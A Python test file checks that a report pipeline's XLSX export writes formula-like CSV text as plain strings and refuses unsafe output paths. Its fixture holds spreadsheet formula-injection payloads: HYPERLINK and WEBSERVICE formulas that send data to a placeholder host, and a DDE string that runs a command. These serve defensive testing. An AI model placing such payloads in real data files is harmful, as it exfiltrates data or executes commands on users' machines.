"""`make workbook` writes text as text, never a formula, and OUT= names one workbook file,
written whole or not at all."""

from __future__ import annotations

import csv
import errno
import os
import shutil
import zipfile
from pathlib import Path

import pytest
from defusedxml import ElementTree

from pipeline import cli
from pipeline.errors import DefectCollector, InputError
from pipeline.present import workbook
from pipeline.read import clean, ingest

from .conftest import ROOT

CONTOH = ROOT / "tests" / "fixtures" / "contoh" / "2025"
MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"

# text a spreadsheet would run, or turn into something else, were it written as typed
HOSTILE = {
    "instansi.csv": {
        "nama_instansi": '=HYPERLINK("http://contoh.invalid/?d="&B2,"Dinas Ketahanan Pangan")',
        "singkatan": "=cmd|' /C calc'!A0",
        "alamat": '=WEBSERVICE("http://contoh.invalid/curi")',
        "kota": "+SUM(1,2)",
        "telepon": "-2+3",
        "email": "@SUM(A1:A9)",
        "kepala_jabatan": "#N/A",
    },
    "iku.csv": {
        "indikator": "=1+1",
        "pembilang": "-Jumlah Desa Rawan Pangan",
        "sumber_data": "+62 21 555",
        "catatan": "#DIV/0!",
    },
}


def _edit(path: Path, values: dict[str, str]) -> None:
    """Every row of the CSV file gets the hostile values in the named columns."""
    with open(path, encoding="utf-8-sig", newline="") as handle:
        reader = csv.DictReader(handle)
        names, rows = reader.fieldnames, list(reader)
    for column in values:
        if column not in names:
            names.append(column)
    with open(path, "w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, names)
        writer.writeheader()
        writer.writerows({**row, **values} for row in rows)


@pytest.fixture
def hostile_raw(tmp_path) -> Path:
    """data/raw with a 2025 folder whose instansi and IKU text begins like a formula."""
    raw = tmp_path / "raw"
    shutil.copytree(CONTOH, raw / "2025")
    for file, values in HOSTILE.items():
        _edit(raw / "2025" / file, values)
    return raw


def _read(folder: Path) -> dict[str, ingest.RawRows]:
    out = DefectCollector()
    raws = ingest.read_all(folder, out)
    out.raise_if_any()
    return raws


def _cells(path: Path, sheet: str) -> dict[str, tuple[str | None, str | None, bool]]:
    """A sheet's cells from the written XML: reference -> (t attribute, inline text, <f>)."""
    with zipfile.ZipFile(path) as zf:
        book = ElementTree.fromstring(zf.read("xl/workbook.xml"))
        names = [s.get("name") for s in book.iter(f"{MAIN}sheet")]
        root = ElementTree.fromstring(zf.read(f"xl/worksheets/sheet{names.index(sheet) + 1}.xml"))
    return {c.get("r"): (c.get("t"), c.findtext(f"{MAIN}is/{MAIN}t"),
                         c.find(f"{MAIN}f") is not None) for c in root.iter(f"{MAIN}c")}


def _column_of(path: Path, sheet: str, name: str) -> str:
    header = {text: ref for ref, (_, text, _) in _cells(path, sheet).items()
              if ref.endswith("1") and ref[:-1].isalpha()}
    return header[name][:-1]


# -- text is written as text ------------------------------------------------------------------

def test_hostile_text_is_written_as_string_cells_with_no_formula(hostile_raw, tmp_path):
    path = workbook.export(2025, hostile_raw, tmp_path / "keluar" / "lkip_2025.xlsx")
    with zipfile.ZipFile(path) as zf:
        sheets_xml = [zf.read(n) for n in zf.namelist() if n.startswith("xl/worksheets/sheet")]
    assert sheets_xml and not any(b"<f>" in x or b"<f " in x for x in sheets_xml)
    for file, values in HOSTILE.items():
        sheet = file.removesuffix(".csv")
        cells = _cells(path, sheet)
        for column, text in values.items():
            ref = f"{_column_of(path, sheet, column)}2"
            assert cells[ref] == ("inlineStr", text, False), (sheet, column)


def test_export_reads_back_as_exactly_the_same_text(hostile_raw, tmp_path):
    folder = tmp_path / "kembali" / "2025"
    workbook.export(2025, hostile_raw, folder / "lkip_2025.xlsx")
    source, back = _read(hostile_raw / "2025"), _read(folder)
    assert sorted(back) == sorted(source)
    for file, raw in source.items():
        assert back[file].rows == raw.rows, file
    assert back["instansi.csv"].rows[0]["nama_instansi"] == \
        HOSTILE["instansi.csv"]["nama_instansi"]
    assert [r["indikator"] for r in back["iku.csv"].rows] == ["=1+1", "=1+1"]


def test_exported_hostile_text_builds_as_text(hostile_raw, tmp_path):
    """Not 'rumus tanpa nilai tersimpan': the build reads the export like its CSV files."""
    folder = tmp_path / "kembali" / "2025"
    shutil.copytree(hostile_raw / "2025" / "narasi", folder / "narasi")
    workbook.export(2025, hostile_raw, folder / "lkip_2025.xlsx")
    ds = clean.load_raw(folder, 2025)
    instansi = ds.frames["instansi.csv"].iloc[0]
    assert instansi["nama_instansi"] == HOSTILE["instansi.csv"]["nama_instansi"]
    assert instansi["singkatan"] == "=cmd|' /C calc'!A0"
    assert instansi["kepala_jabatan"] == "#N/A"


def test_new_year_from_hostile_text_keeps_it_as_text(hostile_raw):
    path = workbook.start_year(2026, 2025, hostile_raw)
    cells = _cells(path, "instansi")
    ref = f"{_column_of(path, 'instansi', 'nama_instansi')}2"
    assert cells[ref] == ("inlineStr", HOSTILE["instansi.csv"]["nama_instansi"], False)
    back = _read(path.parent)
    assert back["instansi.csv"].rows[0]["singkatan"] == "=cmd|' /C calc'!A0"
    assert {r["indikator"] for r in back["iku.csv"].rows} == {"=1+1"}


def test_a_control_character_is_refused_with_its_cell(hostile_raw, tmp_path):
    _edit(hostile_raw / "2025" / "iku.csv", {"indikator": "Persentase\x01Desa"})
    target = tmp_path / "lkip_2025.xlsx"
    with pytest.raises(InputError) as caught:
        workbook.export(2025, hostile_raw, target)
    assert str(caught.value.defects[0]) == (
        "iku.csv, baris 2, kolom 'indikator': teks berisi karakter kendali (control "
        "character) yang tidak dapat disimpan di workbook (nilai: 'U+0001'); yang "
        "diharapkan: teks tanpa karakter kendali; hapus karakter itu dari data")
    assert len(caught.value.defects) == 2  # both IKU rows, said at once
    assert not target.exists()


# -- OUT= names one workbook file -------------------------------------------------------------

def _workbook_cli(raw: Path, out: Path, capsys) -> tuple[int, str]:
    code = cli.main(["workbook", "--year", "2025", "--raw", str(raw), "--out", str(out)])
    return code, capsys.readouterr().err


@pytest.fixture
def raw(tmp_path) -> Path:
    folder = tmp_path / "raw"
    shutil.copytree(CONTOH, folder / "2025")
    return folder


@pytest.fixture
def elsewhere(tmp_path) -> Path:
    """A file a link points at: it must never be written through the link."""
    target = tmp_path / "lain" / "penting.xlsx"
    target.parent.mkdir()
    target.write_bytes(b"isi yang tidak boleh berubah")
    return target


def test_out_symlink_is_refused(raw, tmp_path, elsewhere, capsys):
    link = tmp_path / "lkip_2025.xlsx"
    link.symlink_to(elsewhere)
    code, err = _workbook_cli(raw, link, capsys)
    assert code == 2
    assert f"{link}: file keluaran adalah tautan (symlink) dan tidak ditulis" in err
    assert "yang diharapkan: jalur file .xlsx baru, atau workbook .xlsx yang boleh ditimpa" \
        in err
    assert link.is_symlink() and elsewhere.read_bytes() == b"isi yang tidak boleh berubah"


def test_out_dangling_symlink_is_refused(raw, tmp_path, capsys):
    link = tmp_path / "lkip_2025.xlsx"
    link.symlink_to(tmp_path / "belum-ada.xlsx")
    code, err = _workbook_cli(raw, link, capsys)
    assert code == 2 and "tautan (symlink)" in err
    assert not (tmp_path / "belum-ada.xlsx").exists()


def test_out_text_file_is_refused(raw, tmp_path, capsys):
    notes = tmp_path / "catatan.txt"
    notes.write_text("catatan rapat\n", encoding="utf-8")
    code, err = _workbook_cli(raw, notes, capsys)
    assert code == 2
    assert (f"{notes}: file keluaran bukan workbook .xlsx (nilai: '.txt'); yang diharapkan: "
            "nama file berakhiran .xlsx, mis. OUT=lkip_2024.xlsx") in err
    assert notes.read_text(encoding="utf-8") == "catatan rapat\n"


def test_out_existing_xlsx_that_is_not_a_zip_is_refused(raw, tmp_path, capsys):
    fake = tmp_path / "laporan.xlsx"
    fake.write_bytes(b"bukan zip, mungkin dokumen lain yang salah nama")
    code, err = _workbook_cli(raw, fake, capsys)
    assert code == 2
    assert (f"{fake}: file keluaran yang sudah ada bukan workbook (zip .xlsx) dan tidak "
            "ditimpa; yang diharapkan: jalur file .xlsx baru, atau workbook .xlsx yang boleh "
            "ditimpa") in err
    assert fake.read_bytes() == b"bukan zip, mungkin dokumen lain yang salah nama"


def test_out_existing_zip_that_is_not_a_workbook_is_refused(raw, tmp_path, capsys):
    archive = tmp_path / "arsip.xlsx"
    with zipfile.ZipFile(archive, "w") as zf:
        zf.writestr("dokumen.txt", "arsip")
    before = archive.read_bytes()
    code, err = _workbook_cli(raw, archive, capsys)
    assert code == 2 and "bukan workbook (zip .xlsx) dan tidak ditimpa" in err
    assert archive.read_bytes() == before


def test_out_folder_named_like_a_workbook_is_refused(raw, tmp_path, capsys):
    folder = tmp_path / "hasil.xlsx"
    folder.mkdir()
    code, err = _workbook_cli(raw, folder, capsys)
    assert code == 2
    assert f"{folder}: file keluaran yang sudah ada bukan file biasa (folder atau perangkat)" \
        in err


def test_out_inside_the_data_folder_is_refused(raw, capsys):
    target = raw / "2025" / "lkip_2025.xlsx"
    code, err = _workbook_cli(raw, target, capsys)
    assert code == 2
    assert (f"{target}: file keluaran berada di dalam folder data (folder data: {raw}); "
            "yang diharapkan: file keluaran dan folder data terpisah, tidak saling bertumpuk: "
            "masing-masing di luar yang lain; untuk memulai tahun baru di folder data: make "
            "workbook YEAR=<tahun> FROM=<tahun sebelumnya>") in err
    assert not target.exists()
    assert sorted(p.name for p in (raw / "2025").iterdir()) == sorted(
        p.name for p in CONTOH.iterdir())


def test_out_inside_the_data_folder_through_a_linked_name_is_refused(raw, tmp_path, capsys):
    alias = tmp_path / "alias"
    alias.symlink_to(raw / "2025")
    code, err = _workbook_cli(raw, alias / "lkip_2025.xlsx", capsys)
    assert code == 2 and "berada di dalam folder data" in err
    assert not (raw / "2025" / "lkip_2025.xlsx").exists()


def test_out_existing_workbook_is_replaced(raw, tmp_path, capsys):
    target = tmp_path / "lkip_2025.xlsx"
    workbook.export(2025, raw, target)
    first = target.read_bytes()
    _edit(raw / "2025" / "instansi.csv", {"singkatan": "DKP-baru"})
    code, _ = _workbook_cli(raw, target, capsys)
    assert code == 0
    assert target.read_bytes() != first
    assert _read(tmp_path)["instansi.csv"].rows[0]["singkatan"] == "DKP-baru"
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []
    assert target.stat().st_mode & 0o777 == 0o644 & ~_umask()


def _umask() -> int:
    mask = os.umask(0)
    os.umask(mask)
    return mask


# -- written whole or not at all --------------------------------------------------------------

def _cut_off(monkeypatch, error: BaseException) -> None:
    """The zip is cut off halfway, then the failure."""
    def fail(source, target):
        target.write(b"PK\x03\x04 setengah")
        raise error

    monkeypatch.setattr(workbook, "_fix_zip_times", fail)


@pytest.fixture
def full_disk(monkeypatch):
    _cut_off(monkeypatch, OSError(errno.ENOSPC, "No space left on device"))


@pytest.fixture
def ctrl_c(monkeypatch):
    _cut_off(monkeypatch, KeyboardInterrupt())


@pytest.fixture
def io_error(monkeypatch):
    _cut_off(monkeypatch, OSError(errno.EIO, "Input/output error"))


@pytest.fixture
def previous(raw, tmp_path) -> tuple[Path, bytes]:
    """An earlier export, with a neighbour, before the failing write is set up."""
    folder = tmp_path / "keluar"
    target = workbook.export(2025, raw, folder / "lkip_2025.xlsx")
    (folder / "lain.txt").write_text("tetangga", encoding="utf-8")
    return target, target.read_bytes()


def test_a_full_disk_leaves_the_previous_workbook_and_no_temporary_file(
        raw, previous, full_disk, capsys):
    target, before = previous
    code, err = _workbook_cli(raw, target, capsys)
    assert code == 4
    assert (f"Tidak dapat membaca atau menulis {target}: disk penuh (No space left on device); "
            "kosongkan ruang disk atau pilih folder lain, lalu jalankan ulang.") in err
    assert target.read_bytes() == before
    assert sorted(p.name for p in target.parent.iterdir()) == ["lain.txt", "lkip_2025.xlsx"]


def test_ctrl_c_leaves_the_previous_workbook_and_no_temporary_file(
        raw, previous, ctrl_c, capsys):
    target, before = previous
    code, err = _workbook_cli(raw, target, capsys)
    assert code == 130
    assert "Dibatalkan; keluaran sebelumnya tidak diubah." in err
    assert target.read_bytes() == before
    assert sorted(p.name for p in target.parent.iterdir()) == ["lain.txt", "lkip_2025.xlsx"]


def test_a_failed_first_write_leaves_nothing(raw, tmp_path, io_error):
    folder = tmp_path / "baru"
    with pytest.raises(OSError) as caught:
        workbook.export(2025, raw, folder / "lkip_2025.xlsx")
    assert caught.value.filename == str(folder / "lkip_2025.xlsx")
    assert list(folder.iterdir()) == []
